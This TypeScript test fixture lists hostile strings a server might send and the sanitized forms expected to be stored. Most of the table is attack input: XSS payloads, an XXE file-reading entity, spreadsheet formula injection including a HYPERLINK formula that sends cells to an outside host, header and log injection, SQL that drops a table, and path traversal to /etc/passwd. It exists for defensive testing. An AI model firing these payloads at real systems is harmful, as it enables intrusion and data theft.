/** A value that a hostile server sends as its name, description, version, mode or format. */
export interface HostilePayload {
  /** What the payload is or attacks. */
  readonly name: string;
  /** As the server sends it. */
  readonly sent: string;
  /** Its stored form as a text (name, description), cut at 200 characters. */
  readonly text: string;
  /** Its stored form as an identifier (version, mode, software, format), cut at 50 characters. */
  readonly identifier: string;
}

/** A payload that is stored as it was sent. */
const same = (name: string, sent: string): HostilePayload => ({ name, sent, text: sent, identifier: sent });
const payload = (name: string, sent: string, text: string, identifier: string): HostilePayload => {
  return { name, sent, text, identifier };
};

/**
 * Every payload once. The tests of all formats, of the API and of the pages use this table. Columns: what the payload is, how it is
 * sent, and, if that differs, how it is stored as a text and as an identifier.
 */
export const hostilePayloads: readonly HostilePayload[] = [
  // Markup, for pages and feeds.
  same('a script element', '<script>alert(1)</script>'),
  same('the end of an attribute', '"><img src=x onerror=alert(1)>'),
  same('the end of a single-quoted attribute', "' onmouseover='alert(1)"),
  same('a link with a script', '[x](javascript:alert(1))'),
  same('the end of a script element', '</script><svg onload=alert(1)>'),
  same('the end of a title', '</title></head><body onload=alert(1)>'),
  same('the end of a CDATA section', 'x]]><script>alert(1)</script>'),
  same('the end of a comment', '--><b>bold</b><!--'),
  same('the end of a feed entry', '</title></entry></feed><!--x'),
  same('an entity that reads a file', '<!DOCTYPE x [<!ENTITY e SYSTEM "/e">]>&e;'),
  same('text that is already escaped', '&lt;script&gt;&amp;amp;&#60;'),
  same('a reference to no character', '&#0;&#x110000;&nosuch;'),
  same('a template', `{{7*7}}\${7*7}<%= 7*7 %>#{7*7}`),
  same('the words of String.replace', "$& $1 $' $` $$"),

  // Direction and appearance.
  payload('a right-to-left override', 'moc\u202egpj.exe', 'moc gpj.exe', 'moc\ufffdgpj.exe'),
  payload('unclosed isolates', '\u2066a\u2067b\u2068c', 'a b c', '\ufffda\ufffdb\ufffdc'),
  payload('an Arabic letter mark', 'a\u061cb', 'a b', 'a\ufffdb'),
  payload('marks stacked on a letter', `Z${'\u0301'.repeat(40)}`, '', '\ufffd'),
  same('zero-width characters', 'a\u200bb\u2060c\u00add'),

  // Control characters.
  payload('NUL', 'a\u0000b', 'a b', 'a\ufffdb'),
  payload('terminal sequences', '\u001b[2J\u001b]0;x\u0007red', '[2J ]0;x red', '\ufffd[2J\ufffd]0;x\ufffdred'),
  payload('C1 controls', 'a\u0085b\u009b31mc\u007f', 'a b 31mc', 'a\ufffdb\ufffd31mc\ufffd'),
  payload('only control characters', '\u0001\u0002\u0003', '', '\ufffd\ufffd\ufffd'),
  payload('an injected header', 'x\r\nSet-Cookie: a=b', 'x Set-Cookie: a=b', 'x\ufffd\ufffdSet-Cookie: a=b'),
  payload(
    'an injected log line',
    'x\n{"level":30,"msg":"y"}',
    'x {"level":30,"msg":"y"}',
    'x\ufffd{"level":30,"msg":"y"}',
  ),
  same('an injected metric', '1"} 1 #\\n# HELP evil \\" {a="'),

  // Unicode that formats cannot represent.
  payload('half a surrogate pair', 'a\ud800b', 'a\ufffdb', 'a\ufffdb'),
  payload('the other half', '\udfff', '', '\ufffd'),
  payload('line separators of JavaScript', 'a\u2028b\u2029c', 'a b c', 'a\ufffdb\ufffdc'),
  same('characters that XML cannot hold', 'a\ufffeb\uffffc'),
  same('noncharacters beyond the first plane', 'a\u{1fffe}b\u{10ffff}c'),
  payload('a byte order mark', '\ufeffname', 'name', '\ufeffname'),
  same('an emoji with joiners', '👩‍🚀🏴‍☠️'),

  // Cells that a spreadsheet evaluates.
  same('a formula that runs a program', "=cmd|'/C calc'!A0"),
  same('a formula that sends cells to a server', '=HYPERLINK("https://e.example/?"&A1,"x")'),
  same('a cell that begins with a plus', '+1+cmd'),
  same('a cell that begins with a minus', '-2+3+cmd'),
  same('a cell that begins with an at sign', '@SUM(1+1)*cmd'),
  payload('a tab before a formula', '\t=1+1', '=1+1', '\ufffd=1+1'),
  payload('a line end before a formula', '\r\n=1+1', '=1+1', '\ufffd\ufffd=1+1'),
  payload('a space before a formula', ' =1+1', '=1+1', ' =1+1'),
  same('a formula in full-width signs', '＝1＋1'),
  same('a cell that is already escaped', "'=1+1"),
  same('a formula after a quote', '"=1+1"'),

  // Cells, rows and lines that end early.
  same('quotes and commas', 'a","b",""c",'),
  payload('an injected row', 'a"\r\n"evil.example","b', 'a" "evil.example","b', 'a"\ufffd\ufffd"evil.example","b'),
  same('semicolons and escaped tabs', 'a;b\\tc\\'),
  same('the end of a JSON string', '"},{"domain":"evil.example"},{"x":"'),

  // Names with a meaning in programs.
  same('the prototype of an object', '__proto__'),
  same('a method of every object', 'constructor'),
  same('another method of every object', 'toString'),
  same('a path to a parent folder', '../../../../etc/passwd'),
  same('a Windows path', 'C:\\Windows\\..\\CON'),
  same('a file of the export', 'manifest.json'),
  same('SQL', "'); drop table domains; --"),
  same('the word for unknown', 'null'),
  same('a number', '1e999'),
  same('a boolean', 'true'),
  payload('an empty text', '', '', ''),
  payload('only spaces', '   ', '', '   '),

  // Sizes.
  payload('200 KB', 'A'.repeat(200_000), 'A'.repeat(200), 'A'.repeat(50)),
  payload('surrogate pairs at the length limit', '🎬'.repeat(400), '🎬'.repeat(200), '🎬'.repeat(50)),
];

/** Entries of a hostile domain list: each is invalid, or another spelling of a valid domain. */
export const hostileDomains: readonly string[] = [
  '../../etc/passwd',
  '..',
  '/etc/passwd',
  '..%2f..%2fetc%2fpasswd',
  'C:\\Windows\\win.ini',
  'schema/instances.json',
  'evil.example/../../x\u0000.json',
  '<script>alert(1)</script>.example',
  '=cmd|calc.example',
  '-leading.example',
  "o'quote.example",
  'a b.example',
  'tab\t.example',
  'nul\u0000.example',
  'turned\u202e.example',
  'lone\ud800.example',
  'user:password@[::1]:80',
  '__proto__',
  `${'a'.repeat(64)}.example`,
  `${'a.'.repeat(200)}example`,
];
